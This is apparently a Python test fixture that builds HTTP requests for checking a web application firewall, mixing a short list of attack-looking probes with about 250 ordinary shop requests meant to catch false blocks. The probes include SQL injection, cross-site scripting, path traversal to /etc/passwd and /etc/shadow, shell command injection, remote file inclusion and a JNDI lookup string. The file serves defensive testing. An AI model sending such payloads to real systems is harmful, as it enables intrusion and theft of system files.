# GNU General Public License v3.0+ (see LICENSE or https://www.gnu.org/licenses/gpl-3.0.txt)
# SPDX-License-Identifier: GPL-3.0-or-later

"""Requests for a web application firewall: ordinary ones, and some that only look hostile.

Those that look hostile are harmless: nothing that is tested here runs what they say, no address in
them is reached, and the file names in them are those that everybody knows.
"""

from __future__ import annotations

import json
import typing as t
from dataclasses import dataclass, field
from urllib.parse import quote, urlencode

BROWSER = "Mozilla/5.0 (X11; Linux x86_64; rv:140.0) Gecko/20100101 Firefox/140.0"
FORM = "application/x-www-form-urlencoded"
BOUNDARY = "----formboundary7MA4YWxk"


@dataclass(frozen=True)
class Sent:
    """A request: what it is in words, its target below the route's path, and the rest of it."""

    what: str
    target: str
    method: str = "GET"
    headers: t.Mapping[str, str] = field(default_factory=dict)
    body: bytes = b""

    def all_headers(self) -> dict[str, str]:
        """Return the headers with those that every browser sends."""
        return {"User-Agent": BROWSER, "Accept": "text/html,*/*;q=0.8", **self.headers}


def query(what: str, **arguments: str) -> Sent:
    """Return a GET with arguments."""
    return Sent(what, f"/?{urlencode(arguments)}")


def form(what: str, target: str = "/", **arguments: str) -> Sent:
    """Return a POST of a form."""
    return Sent(what, target, "POST", {"Content-Type": FORM}, urlencode(arguments).encode())


def as_json(what: str, value: t.Any, method: str = "POST") -> Sent:
    """Return a request with JSON."""
    headers = {"Content-Type": "application/json"}
    return Sent(what, "/api/items", method, headers, json.dumps(value).encode())


def upload(what: str, name: str, kind: str, data: bytes) -> Sent:
    """Return a POST with a file and a field, as a form sends them."""
    head = f'--{BOUNDARY}\r\nContent-Disposition: form-data; name="title"\r\n\r\nA picture\r\n'
    head += f'--{BOUNDARY}\r\nContent-Disposition: form-data; name="file"; filename="{name}"\r\n'
    head += f"Content-Type: {kind}\r\n\r\n"
    body = head.encode() + data + f"\r\n--{BOUNDARY}--\r\n".encode()
    return Sent(what, "/upload", "POST", _multipart(), body)


def _multipart() -> dict[str, str]:
    return {"Content-Type": f"multipart/form-data; boundary={BOUNDARY}"}


PROBES = (
    query("SQL: a condition that is always true", id="1' or '1'='1"),
    query("SQL: a second query", id="1 union select user, password from users"),
    query("SQL: a function", id="1 and extractvalue(1, concat(0x7e, version()))"),
    query("SQL: a pause", id="1; select pg_sleep(0)"),
    form("SQL: a condition, in a form", user="x' or 1=1 -- ", password="x"),
    as_json("SQL: a condition, in JSON", {"user": "x' or 1=1 -- "}),
    query("a script in a page", q="<script>alert(1)</script>"),
    query("a script in an attribute", q="<img src=x onerror=alert(1)>"),
    query("a script in a link", q="<a href='javascript:alert(1)'>x</a>"),
    form("a script, in a form", comment="<svg onload=alert(1)>"),
    Sent("a script, in a cookie", "/", headers={"Cookie": "name=<script>alert(1)</script>"}),
    query("a path to a file of the system", file="../../../../etc/passwd"),
    Sent("a path to a file of the system, encoded", "/?file=..%2f..%2f..%2fetc%2fshadow"),
    query("a command of a shell", host="127.0.0.1; cat /etc/passwd"),
    query("a command in place of a name", name="$(cat /etc/passwd)"),
    query("code of PHP", page="<?php phpinfo(); ?>"),
    query("a file of another host", page="http://192.0.2.1/shell.txt?"),
    query("a lookup by a Java logger", q="${jndi:ldap://192.0.2.1/a}"),
    Sent("a scanner by its own name", "/", headers={"User-Agent": "sqlmap/1.8"}),
    query("a header in an argument", next="x\r\nSet-Cookie: a=b"),
)

NAMES = (
    *("O'Brien", "D'Angelo", "Siobhán O'Connor", "L'Oréal", "Jörg Müßigmann", "Zoë Ångström"),
    *("François Lefèvre", "Łukasz Żółć", "Δημήτρης", "Наталья", "山田太郎", "محمد", "Nguyễn Văn A"),
    *(
        'Miles "Tails" Prower',
        "Smith & Sons",
        "AT&T",
        "Müller, Hans-Peter",
        "Anna-Lena",
        "J. R. R.",
    ),
)
PHRASES = (
    *(
        "blue shoes size 42",
        "rock 'n' roll",
        "50% off today",
        "C++ and C#",
        "1 + 1 = 2",
        "a/b test",
    ),
    *(
        "where to buy a table",
        "drop us a line",
        "Union Square",
        "order by phone",
        "choose your size",
    ),
    *(
        "don't panic!",
        "what's new?",
        "it's 5 o'clock",
        "café crème brûlée",
        "Größe XL",
        "price: 12 €",
    ),
    *("12.50", "-3", "1,000,000", "2026-11-28", "10:30", "+49 30 123456", "ada@shop.example"),
    *(
        "https://shop.example/item?id=7",
        "#summer",
        "@home",
        "50 x 70 cm",
        "A4 (210 × 297 mm)",
        "🙂 ok",
    ),
    *("from here to there", "if in doubt, ask", "a cat and a dog", "table tennis"),
)
# Ordinary as well, but they begin as commands of a shell do, and level 1 refuses some of them.
MISTAKEN = ("ping pong", "cat and dog")
TEXT = (
    "We like the table that we ordered in May. It's solid, the colour is right, and the delivery"
    " was on time; the driver's phone call helped. One leg was a bit short, but you sent another"
    " (thanks!). Would we buy it again? Yes, and we'd tell our friends - no question about that.\n"
)
AGENTS = (
    BROWSER,
    "Mozilla/5.0 (iPhone; CPU iPhone OS 18_5 like Mac OS X) AppleWebKit/605.1.15 Mobile/15E148",
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 Chrome/140.0.0.0 Safari/537.36",
    "Mozilla/5.0 (compatible; Googlebot/2.1; +http://www.google.com/bot.html)",
)
COOKIES = (
    "session=eyJjYXJ0IjpbMSwyLDNdfQ.aSmXxw.k1Yh0pQ7s-JkZ3a_9dUe0mJ4c2E",
    "_ga=GA1.2.1234567890.1700000000; _gid=GA1.2.987654321.1700000000",
    "consent=%7B%22ads%22%3Afalse%2C%22stats%22%3Atrue%7D; lang=de-DE",
    "sessionid=38afes7a8; csrftoken=u32t4o3tb3gg43; theme=dark",
)


def ordinary() -> list[Sent]:
    """Return some 250 requests as visitors of a shop send them."""
    return [*_searches(), *_forms(), *_documents(), *_uploads(), *_with_headers()]


def _searches() -> t.Iterator[Sent]:
    for each in (*NAMES, *PHRASES):
        yield query(f"a search for {each}", q=each, page="2", sort="price")
        yield Sent(f"a path with {each}", f"/items/{quote(each, safe='')}")
    for number in range(10):
        yield Sent("a page of a list", f"/items/?page={number}&per_page=50&filter[colour]=red")


def _forms() -> t.Iterator[Sent]:
    for each in NAMES:
        yield form(
            f"an order by {each}", name=each, street="Hauptstraße 5a", city="Köln", zip="50667"
        )
    for each in PHRASES:
        yield form(f"a message: {each}", subject=each, message=f"Hello,\n{each}\nRegards, Ada")
    for times in (1, 10, 100):
        yield form("a long text", message=TEXT * times)
    yield form("a password of signs", user="ada@shop.example", password="k9#Tq!vX2_m-Z8")


def _documents() -> t.Iterator[Sent]:
    for each in (*NAMES, *PHRASES):
        item = {"name": each, "amount": 3, "tags": ["new", "blue"], "address": {"city": "Köln"}}
        yield as_json(f"JSON with {each}", item)
    yield as_json("a large document", [{"id": n, "text": TEXT} for n in range(600)])
    yield as_json("an empty document", {})
    for method in ("PUT", "PATCH", "DELETE"):
        yield as_json(f"{method} of an item", {"amount": 2}, method)


def _uploads() -> t.Iterator[Sent]:
    picture = b"\x89PNG\r\n\x1a\n" + bytes(range(256)) * 200
    yield upload("a picture", "table.png", "image/png", picture)
    yield upload("a picture with a name of signs", "Küche (2).jpg", "image/jpeg", picture)
    yield upload("a document", "invoice.pdf", "application/pdf", b"%PDF-1.7\n" + picture)
    yield upload("a text", "notes.txt", "text/plain", (TEXT * 20).encode())
    yield upload("a table", "prices.csv", "text/csv", b"name;price\ntable;12,50\n" * 500)
    yield upload("a large picture", "wall.png", "image/png", picture * 40)


def _with_headers() -> t.Iterator[Sent]:
    for each in AGENTS:
        yield Sent("another browser", "/", headers={"User-Agent": each})
    for each in COOKIES:
        yield Sent("cookies", "/cart", headers={"Cookie": each})
    headers = {
        "Referer": "https://www.google.com/search?q=tables",
        "Accept-Language": "de-DE,de;q=0.9,en;q=0.5",
        "If-None-Match": '"5f3-abc"',
        "If-Modified-Since": "Fri, 27 Nov 2026 10:00:00 GMT",
        "Authorization": "Bearer eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxIn0.c2lnbmF0dXJl",
        "Range": "bytes=0-99",
        "Origin": "https://shop.example",
        "X-Requested-With": "XMLHttpRequest",
    }
    for name, value in headers.items():
        yield Sent(f"the header {name}", "/items/7", headers={name: value})
    yield Sent("a HEAD", "/items/7", "HEAD")
    yield Sent("an OPTIONS", "/api/items", "OPTIONS")
